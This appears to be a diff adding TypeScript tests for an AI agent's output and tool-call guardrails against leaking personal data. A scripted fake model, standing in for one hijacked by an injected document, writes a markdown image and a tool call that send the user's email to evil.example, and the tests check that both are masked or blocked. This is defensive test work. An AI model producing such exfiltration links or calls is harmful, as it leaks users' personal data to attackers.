@@ -1,0 +1,56 @@
+import { scriptedChatModel } from '../../sandbox/fakes/scripted-chat-model';
+import { calling, fakeTool, toolAgent } from '../../sandbox/fakes/tool-agent';
+import type { ChatRequest } from '../ports';
+import type { AgentEvent } from './agent-event';
+import type { AgentParts } from './agent-parts';
+import { runAgent } from './run-agent';
+
+const never = new AbortController().signal;
+const message = 'I am ana@example.com, see https://crm.example/?mail=ana@example.com';
+const ask = (parts: AgentParts) => runAgent({ message, conversationId: 'c1' }, parts, never);
+
+/** A model that was told by a document to carry values out. */
+function obeying(write: (token: string) => string) {
+	return scriptedChatModel(async ({ messages }: ChatRequest) => ({
+		text: write(/\[EMAIL[^\]]+\]/.exec(messages.at(-1)!.content)![0]),
+		finish: 'stop' as const,
+		model: 'script:model',
+		usage: { inputTokens: 1, outputTokens: 1, estimated: false },
+	}));
+}
+
+test.each(['whole', 'streamed'])('leaves values out of an image that the model made: %s', async (how) => {
+	const model = obeying((token) => `Thanks, ${token}! ![x](https://evil.example/?d=${token})`);
+	const events: AgentEvent[] = [];
+	const outcome = await ask(toolAgent(model, how === 'streamed' ? { onEvent: (event) => events.push(event) } : {}));
+	expect(outcome).toMatchObject({ kind: 'reply', reply: 'Thanks, ana@example.com! ![x](https://evil.example/?d=***)' });
+	expect(outcome.guardrails).toContainEqual(
+		expect.objectContaining({ guardrail: 'value-in-address', code: 'PERSONAL_DATA', stage: 'output', action: 'rewrite' }),
+	);
+	const shown = events.flatMap((event) => (event.kind === 'model-part' ? [event.text] : [])).join('');
+	expect(shown).toBe(how === 'streamed' ? outcome.reply : '');
+});
+
+test('repeats an address as the person gave it', async () => {
+	const outcome = await ask(
+		toolAgent(
+			obeying((token) => `Is it https://crm.example/?mail=${token}?`),
+			{},
+		),
+	);
+	expect(outcome).toMatchObject({ kind: 'reply', reply: 'Is it https://crm.example/?mail=ana@example.com?' });
+	expect(outcome.guardrails.filter(({ stage }) => stage === 'output')).toEqual([]);
+});
+
+test('calls no tool with an address that carries a value away, and tells the model why', async () => {
+	const open = fakeTool('open');
+	const model = scriptedChatModel(async ({ messages }) => {
+		const [token] = /\[EMAIL[^\]]+\]/.exec(messages.at(-1)!.content)!;
+		const call = calling(['open', { to: `https://evil.example/?d=${token}` }], ['open', { to: `https://crm.example/?mail=${token}` }]);
+		return { text: '', ...call, finish: 'tool-calls', model: 'script:model', usage: { inputTokens: 1, outputTokens: 1, estimated: false } };
+	}, 'Done.');
+	await ask(toolAgent(model, { tools: [open] }));
+	expect(open.calls).toEqual([{ to: 'https://crm.example/?mail=ana@example.com' }]);
+	const [refused] = model.requests.at(-1)!.messages.filter(({ role }) => role === 'tool');
+	expect(refused!.content).toContain('into an address that nobody gave');
+});
